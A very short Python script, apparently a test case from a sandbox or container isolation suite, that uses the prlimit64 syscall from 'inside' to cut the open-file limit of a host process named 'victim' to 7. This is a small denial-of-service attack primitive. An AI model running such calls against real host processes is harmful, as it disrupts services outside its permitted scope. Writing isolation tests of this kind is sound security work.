"""Cut a host process's limits."""

from __future__ import annotations

import struct

from inside import W, call

call("prlimit64", W["victim"], 7, struct.pack("QQ", 7, 1000), None)
